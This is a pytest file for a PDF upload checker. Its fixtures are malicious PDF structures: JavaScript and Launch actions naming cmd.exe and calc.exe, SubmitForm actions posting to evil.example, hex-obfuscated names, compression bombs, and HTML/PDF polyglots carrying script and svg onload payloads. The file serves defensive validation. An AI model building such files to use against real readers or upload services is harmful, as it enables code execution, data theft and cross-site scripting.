"""PDFs are accepted when complete and without scripts, launch actions or attachments."""

from __future__ import annotations

import zlib

import pytest

from api.uploads.errors import UploadRefused
from api.uploads.pdf import check_pdf
from tests.uploads import samples
from tests.uploads.samples import CATALOG, PAGE, PAGES, pdf, stream


def _refusal(data: bytes) -> UploadRefused:
    with pytest.raises(UploadRefused) as refused:
        check_pdf(data)
    return refused.value


def test_plain_and_office_pdfs_pass():
    check_pdf(samples.plain_pdf())
    check_pdf(samples.reportlab_pdf())


def test_binary_stream_data_that_happens_to_hold_slash_js_is_fine():
    image = stream(b"/Type /XObject /Subtype /Image /Width 1 /Height 1", b"\x00/JS \x01/JS(" * 50)
    check_pdf(pdf(CATALOG, PAGES, PAGE, image))


def test_javascript_is_refused_and_the_error_says_why():
    action = b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>"
    refused = _refusal(pdf(action, PAGES, PAGE))
    assert refused.status == 415 and refused.code == "PDF_ACTIVE_CONTENT"
    assert "JavaScript" in refused.message and "JavaScript" in refused.message_en


@pytest.mark.parametrize(
    ("catalog", "what"),
    [
        (b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>", "JavaScript"),
        (b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /Launch /F (cmd.exe) >> >>", "Launch"),
        (b"<< /Type /Catalog /Pages 2 0 R /Names << /EmbeddedFiles 4 0 R >> >>", "EmbeddedFile"),
        (b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /Java#53cript /J#53 (x) >> >>", "JavaScript"),
    ],
)
def test_active_content_is_refused(catalog, what):
    js = b"<< /JS 5 0 R /S /JavaScript >>"
    refused = _refusal(pdf(catalog, PAGES, PAGE, js, stream(b"", b"app.alert(1)")))
    assert refused.code == "PDF_ACTIVE_CONTENT" and what in refused.message_en


def test_an_embedded_file_stream_is_refused():
    attachment = stream(b"/Type /EmbeddedFile", b"MZ\x90\x00 payload")
    assert _refusal(pdf(CATALOG, PAGES, PAGE, attachment)).code == "PDF_ACTIVE_CONTENT"


def test_javascript_hidden_in_a_compressed_object_stream_is_found():
    objects = b"5 0 "
    body = b"<< /S /JavaScript /JS (app.launchURL('http://evil.example')) >>"
    content = zlib.compress(objects + body)
    object_stream = stream(b"/Type /ObjStm /N 1 /First %d /Filter /FlateDecode" % len(objects), content)
    refused = _refusal(pdf(CATALOG, PAGES, PAGE, object_stream))
    assert refused.code == "PDF_ACTIVE_CONTENT"


def test_a_short_js_key_in_an_object_stream_is_found_too():
    content = zlib.compress(b"5 0 << /Type /Action /JS 9 0 R >>")
    object_stream = stream(b"/N 1 /First 4 /Filter [/FlateDecode]", content)
    assert _refusal(pdf(CATALOG, PAGES, PAGE, object_stream)).code == "PDF_ACTIVE_CONTENT"


def test_object_streams_in_encodings_that_cannot_be_checked_are_refused():
    object_stream = stream(b"/Type /ObjStm /N 1 /First 4 /Filter /LZWDecode", b"\x80\x0b\x60\x50")
    assert _refusal(pdf(CATALOG, PAGES, PAGE, object_stream)).code == "PDF_UNSUPPORTED"


def test_a_fake_stream_keyword_does_not_hide_javascript():
    trick = b"<< /T (x) >>\nstream\n) >> endobj 9 0 obj << /S /JavaScript /JS (1) >> endstream"
    assert _refusal(pdf(CATALOG, PAGES, PAGE, trick)).code == "PDF_ACTIVE_CONTENT"


def test_encrypted_pdfs_are_refused():
    data = pdf(
        CATALOG, PAGES, PAGE, b"<< /Filter /Standard /V 2 >>", trailer=b"<< /Root 1 0 R /Encrypt 4 0 R >>"
    )
    refused = _refusal(data)
    assert refused.code == "PDF_ENCRYPTED" and refused.status == 415


def test_a_truncated_pdf_is_refused():
    data = samples.plain_pdf()
    refused = _refusal(data[: len(data) // 2])
    assert refused.status == 400 and refused.code == "PDF_INVALID"


def test_a_compression_bomb_in_an_object_stream_is_refused():
    content = zlib.compress(b" " * (65 * 1024 * 1024), 9)
    object_stream = stream(b"/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode", content)
    assert _refusal(pdf(CATALOG, PAGES, PAGE, object_stream)).code == "PDF_TOO_COMPLEX"


@pytest.mark.parametrize(
    ("catalog", "what"),
    [
        # any /OpenAction, even one that only shows the first page
        (b"<< /Type /Catalog /Pages 2 0 R /OpenAction [3 0 R /Fit] >>", "OpenAction"),
        (b"<< /Type /Catalog /Pages 2 0 R /Open#41ction [3 0 R /Fit] >>", "OpenAction"),
        (b"<< /Type /Catalog /Pages 2 0 R /#4fpen#41#63tion 4 0 R >>", "OpenAction"),
        (b"<< /Type /Catalog /Pages 2 0 R /AcroForm << /XFA 4 0 R >> >>", "XFA"),
        (b"<< /Type /Catalog /Pages 2 0 R /AcroForm << /#58FA 4 0 R >> >>", "XFA"),
        (b"<< /Type /Catalog /Pages 2 0 R /Names << /EmbeddedFiles 4 0 R >> >>", "EmbeddedFile"),
    ],
)
def test_open_actions_and_forms_are_refused_however_the_name_is_spelt(catalog, what):
    refused = _refusal(pdf(catalog, PAGES, PAGE, b"<< /Type /Action /S /GoTo /D [3 0 R /Fit] >>"))
    assert refused.code == "PDF_ACTIVE_CONTENT" and what in refused.message_en


@pytest.mark.parametrize(
    ("action", "what"),
    [
        (b"<< /Type /Action /S /SubmitForm /F (https://evil.example/collect) >>", "SubmitForm"),
        (b"<< /Type /Action /S /Submit#46orm /F (https://evil.example/collect) >>", "SubmitForm"),
        (b"<< /Type /Annot /Subtype /RichMedia /RichMediaContent 9 0 R >>", "RichMedia"),
        (b"<< /Type /Action /S /Launch /F (calc.exe) >>", "Launch"),
        (b"<< /Type /Action /S /JavaScript /JS (app.alert(1)) >>", "JavaScript"),
    ],
)
def test_actions_in_an_object_are_refused(action, what):
    refused = _refusal(pdf(CATALOG, PAGES, PAGE, action))
    assert refused.code == "PDF_ACTIVE_CONTENT" and what in refused.message_en


@pytest.mark.parametrize(
    "hidden",
    [b"<< /OpenAction 9 0 R >>", b"<< /S /Submit#46orm >>", b"<< /XFA [(x) 9 0 R] >>", b"<< /RichMedia 1 >>"],
)
def test_names_in_a_compressed_object_stream_are_found(hidden):
    content = zlib.compress(b"5 0 " + hidden)
    object_stream = stream(b"/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode", content)
    assert _refusal(pdf(CATALOG, PAGES, PAGE, object_stream)).code == "PDF_ACTIVE_CONTENT"


def test_a_long_name_in_a_compressed_content_stream_is_found():
    content = stream(b"/Filter /FlateDecode", zlib.compress(b"BT /F1 12 Tf ET /OpenAction"))
    assert _refusal(pdf(CATALOG, PAGES, PAGE, content)).code == "PDF_ACTIVE_CONTENT"


@pytest.mark.parametrize(
    "markup",
    [
        b"<html><body>hi</body></html>",
        b"<SCRIPT>alert(1)</SCRIPT>",
        b"<!DOCTYPE html>",
        b"<iframe src=//evil.example>",
        b"<svg/onload=alert(1)>",
        b"<Html\n>",
    ],
)
def test_html_after_the_header_is_refused(markup):
    # a polyglot: a valid PDF that a sniffing browser would render as a page
    data = samples.plain_pdf()
    polyglot = data[:9] + b"%" + markup + b"\n" + data[9:]
    refused = _refusal(polyglot)
    assert refused.code == "PDF_HTML" and refused.status == 415
    # in a comment at the end, and inside a stream's raw bytes, too
    assert _refusal(data.replace(b"%%EOF", markup + b"\n%%EOF")).code == "PDF_HTML"
    image = stream(b"/Type /XObject /Subtype /Image /Width 1 /Height 1", b"\x00" + markup + b"\x01")
    assert _refusal(pdf(CATALOG, PAGES, PAGE, image)).code == "PDF_HTML"


def test_words_like_html_in_text_are_fine():
    check_pdf(pdf(CATALOG, PAGES, PAGE, b"<< /Title (html, scripts and <b> tags) >>"))
